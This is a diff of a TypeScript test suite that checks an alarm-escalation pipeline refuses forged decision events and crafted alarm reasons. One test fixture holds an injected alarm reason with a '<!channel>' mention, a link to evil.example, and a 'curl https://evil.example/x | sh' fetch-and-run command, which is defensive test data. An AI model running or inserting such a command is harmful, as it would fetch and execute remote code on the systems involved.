@@ -11,7 +11,7 @@ import type { AlarmHandler } from '../../../shared/pipeline/create-alarm-handler
 import { buildAlarmStateChangeEvent } from '../../../sandbox/alarm-evaluator';
 import { createEscalationInbox, type EscalationInbox } from '../../../sandbox/escalation-inbox';
 import { getProxyCalls } from '../../../sandbox/proxy-control';
-import { provisionAccount, queueAlarmName, type SandboxAccount } from '../support/sandbox-account';
+import { provisionAccount, putQueueDepth, queueAlarmName, type SandboxAccount } from '../support/sandbox-account';
 import { loadHandler } from '../../support/load-handler';
 
 type EventBridgeEvent = Record<string, unknown> & { detail: Record<string, unknown> };
@@ -115,6 +115,7 @@ describe('forged "Runbook Decision" events (issue 17 item 3)', () => {
 
   it('pages nobody for an escalation with no matching claim or audit record, and logs it as refused', async () => {
     // The alarm really fires, but no playbook decided anything about it: the "decision" is the attacker's.
+    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
     const alarm = await h.account.transition(h.alarmName, 'ALARM', 'Threshold Crossed: 1 datapoint [1800.0] was greater than the threshold (1000.0)');
     const alarmTime = String((alarm.detail as { state: { timestamp: string } }).state.timestamp);
     const incidentKey = `${h.alarmArn}#${alarmTime}`;
@@ -143,6 +144,7 @@ describe('forged "Runbook Decision" events (issue 17 item 3)', () => {
 
   it('does not resolve a real open incident with a forged OK, and does not resolve it when the alarm still fires', async () => {
     // A real incident: scale-consumers at the cap escalates, escalate opens it and pages L1.
+    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
     const event = await h.account.transition(h.alarmName, 'ALARM', 'Threshold Crossed: 1 datapoint [2100.0] was greater than the threshold (1000.0)');
     await h.scaleConsumers(event);
     const [decision] = await publishedDecisions(h);
@@ -189,6 +191,7 @@ describe('forged "Runbook Decision" events (issue 17 item 3)', () => {
   });
 
   it('renders the recorded next step, never a document or link the event carries', async () => {
+    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
     const event = await h.account.transition(h.alarmName, 'ALARM', 'Threshold Crossed: 1 datapoint [2500.0] was greater than the threshold (1000.0)');
     await h.scaleConsumers(event);
     const [decision] = await publishedDecisions(h);
@@ -230,6 +233,7 @@ describe('a crafted alarm reason (issue 17 item 8)', () => {
     const crafted =
       'Threshold Crossed <!channel> <https://evil.example/run|Run this>\n\nNEXT STEP: Run NotificationService-Evil\n  curl https://evil.example/x | sh ' +
       'postgres://app:S3cr3tPw@db:5432/notify';
+    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
     const event = await h.account.transition(h.alarmName, 'ALARM', crafted);
     await h.scaleConsumers(event);
     const [decision] = await publishedDecisions(h);
